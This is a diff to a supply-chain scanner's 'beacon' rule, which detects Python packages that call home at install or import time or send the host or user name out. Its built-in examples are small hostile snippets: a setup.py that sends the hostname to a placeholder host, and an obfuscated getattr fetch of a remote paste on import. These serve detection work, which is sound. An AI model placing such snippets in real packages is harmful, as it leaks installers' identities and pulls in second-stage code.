@@ -5,10 +5,10 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from pratique.facts.model import PackageFacts
-from pratique.facts.python.model import Does, Source, Taint
+from pratique.facts.python.model import Call, Does, PythonFacts, Source, Taint
 from pratique.facts.shell import read_shell
 from pratique.finding import Behaviour, Finding, Phase, Severity
-from pratique.rules.claims import calls, claim, command, destination, hidden, when
+from pratique.rules.claims import HIDDEN_PLACE, claim, command, destination, hidden, when
 from pratique.rules.rule import Example, Rule
 
 _ID = "beacon"
@@ -27,40 +27,50 @@ _NAMES_SOMEBODY = (
 
 
 def _check(facts: PackageFacts) -> Iterator[Finding]:
-    for path, call in calls(facts):
-        taints = _identifying(call.taints(Source.HOST, Source.PROCESS))
-        if call.does & {Does.SEND, Does.FETCH} and taints and call.phase.automatic:
-            yield claim(
-                _ID,
-                Behaviour.THEFT,
-                path,
-                call,
-                f"host or user name is sent to {destination(call) or 'another host'} {when(call.phase)}",
-                severity=Severity.CRITICAL,
-                taints=taints,
-            )
-        elif call.does & {Does.SEND, Does.FETCH} and call.phase is Phase.INSTALL:
-            place = destination(call)
-            severity = Severity.CRITICAL if hidden(call, place) or Does.SEND in call.does else Severity.HIGH
-            yield claim(
-                _ID,
-                Behaviour.SECOND_STAGE,
-                path,
-                call,
-                f"calls {place or 'another host'} {when(call.phase)}",
-                severity=severity,
-            )
-        elif Does.RUN_PROCESS in call.does and call.phase is Phase.INSTALL:
-            shell = read_shell(command(call))
-            if shell.sends or shell.downloads:
-                yield claim(
-                    _ID,
-                    Behaviour.SECOND_STAGE,
-                    path,
-                    call,
-                    f"a command calls {(*shell.sends, *shell.downloads)[0]} {when(call.phase)}",
-                    severity=Severity.CRITICAL if shell.identifies or shell.sends else Severity.HIGH,
-                )
+    for file in facts.python:
+        for call in file.calls:
+            if not call.phase.automatic:
+                continue
+            if call.does & {Does.SEND, Does.FETCH}:
+                yield from _network(file, call)
+            elif Does.RUN_PROCESS in call.does and call.phase is Phase.INSTALL:
+                yield from _command(file.path, call)
+
+
+def _network(file: PythonFacts, call: Call) -> Iterator[Finding]:
+    place = destination(call)
+    taints = _identifying(call.taints(Source.HOST, Source.PROCESS))
+    if taints:
+        message = f"host or user name is sent to {place or 'another host'} {when(call.phase)}"
+        yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
+    elif call.phase is Phase.INSTALL:
+        worst = hidden(call, place) or Does.SEND in call.does or _for_nothing(file, call)
+        yield _calls(file.path, call, place or "another host", worst=worst)
+    elif HIDDEN_PLACE.search(place):
+        yield _calls(file.path, call, place, worst=True)
+
+
+def _command(path: str, call: Call) -> Iterator[Finding]:
+    shell = read_shell(command(call))
+    if places := (*shell.sends, *shell.downloads):
+        covert = shell.hidden or bool(HIDDEN_PLACE.search(" ".join(places)))
+        yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert))
+
+
+def _for_nothing(file: PythonFacts, call: Call) -> bool:
+    """Whether what was fetched at install is kept nowhere: then only the call itself can be meant."""
+    return not any(c.phase is Phase.INSTALL and Does.WRITE in c.does for c in file.calls) and bool(destination(call))
+
+
+def _calls(path: str, call: Call, place: str, *, worst: bool) -> Finding:
+    return claim(
+        _ID,
+        Behaviour.SECOND_STAGE,
+        path,
+        call,
+        f"calls {place} {when(call.phase)}",
+        severity=Severity.CRITICAL if worst else Severity.HIGH,
+    )
 
 
 def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
@@ -70,7 +80,7 @@ def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
 RULE = Rule(
     id=_ID,
     behaviour=Behaviour.THEFT,
-    summary="The package calls home by itself: at install, or with the host's or user's name.",
+    summary="The package calls home by itself: at install, with the host's or user's name, or to a place that hides its owner.",
     gain="The attacker learns who installed it and whom to attack next; dependency confusion is found this way.",
     honest="Telemetry runs when a program is used; a build that fetches what it needs comes from the project's own home.",
     check=_check,
@@ -81,6 +91,10 @@ RULE = Rule(
                 "setup.py": "import socket as s, urllib.request as u\n"
                 "u.urlopen('http://c.example.invalid/?h=' + s.gethostname())\n"
             },
+        ),
+        Example(
+            title="a paste fetched when imported, through getattr",
+            files={"pkg/__init__.py": "import requests\ngetattr(requests, 'g' + 'et')('http://203.0.113.9/raw/a')\n"},
         ),
         Example(
             title="by __import__",
